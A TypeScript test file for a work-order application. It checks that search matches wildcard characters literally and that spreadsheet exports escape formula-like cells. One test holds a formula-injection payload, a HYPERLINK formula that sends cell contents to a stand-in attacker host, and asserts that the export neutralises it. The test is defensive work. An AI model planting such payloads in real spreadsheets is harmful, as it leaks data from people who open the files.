import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_DIALECTS, createTestApp, type TestApp } from '../helpers/test-app';
import { api, type Api } from './workorders.fixtures';

// What users type is data, both ways (docs/security.md V5 and V13): a search for `AB_12` or `100%` matches those
// characters literally on both engines, and an exported cell that looks like a formula stays text.

describe.each(TEST_DIALECTS)('literal search and safe exports on %s', (dialect) => {
  let t: TestApp;
  let a: Api;
  beforeAll(async () => {
    t = await createTestApp(dialect, { now: '2026-03-02T02:00:00.000Z' });
    a = api(t);
    for (const problem of ['型号 AB_12 断裂', '型号 AB912 断裂', '抽检 100%不合格', '抽检 100 件不合格', '路径 C:\\temp 报错']) {
      await a.create({ kind: 'suggestion', channel: 'web', customerName: '通配符客户', problem });
    }
  });
  afterAll(async () => t?.close());

  const search = async (q: string) => {
    const res = await a.get(`/api/workorders?limit=200&q=${encodeURIComponent(q)}`, 'clerk');
    expect(res.statusCode).toBe(200);
    return (res.json().items as { problem: string | null; customerName: string | null; productCode: string | null; number: string }[]).map((i) => i.problem ?? '');
  };

  it('matches _ literally: AB_12 finds AB_12 and not AB912', async () => {
    expect(await search('AB_12')).toEqual(['型号 AB_12 断裂']);
    expect(await search('ab_12')).toEqual(['型号 AB_12 断裂']);
  });

  it('matches % literally: 100%不合格 is found, q=% returns only rows with a real %', async () => {
    expect(await search('100%不合格')).toEqual(['抽检 100%不合格']);
    expect(await search('%')).toEqual(['抽检 100%不合格']);
    expect(await search('100%')).toEqual(['抽检 100%不合格']);
  });

  it('matches \\ literally', async () => {
    expect(await search('c:\\temp')).toEqual(['路径 C:\\temp 报错']);
    expect(await search('\\')).toEqual(['路径 C:\\temp 报错']);
  });

  it('exports text that looks like a formula with a leading quote, and numbers as numbers', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
    await a.create({ kind: 'complaint', channel: 'phone', category: 'service', customerName: evil, contactPhone: '+86 138 0000 1111', problem: '@SUM(1+1) 态度', shipQuantity: 42 });
    const res = await a.get('/api/workorders/export.xlsx?kind=complaint', 'clerk');
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('客户投诉登记表')!;
    let found: ExcelJS.Row | undefined;
    ws.eachRow((row) => {
      if (String(row.getCell(6).value).includes('HYPERLINK')) found = row;
    });
    expect(found).toBeDefined();
    const cells = found!.values as ExcelJS.CellValue[];
    expect(found!.getCell(6).value).toBe(`'${evil}`);
    expect(found!.getCell(9).value).toBe("'+86 138 0000 1111");
    expect(found!.getCell(12).value).toBe("'@SUM(1+1) 态度");
    expect(found!.getCell(14).value).toBe(42);
    for (const v of cells) if (typeof v === 'string') expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });
});
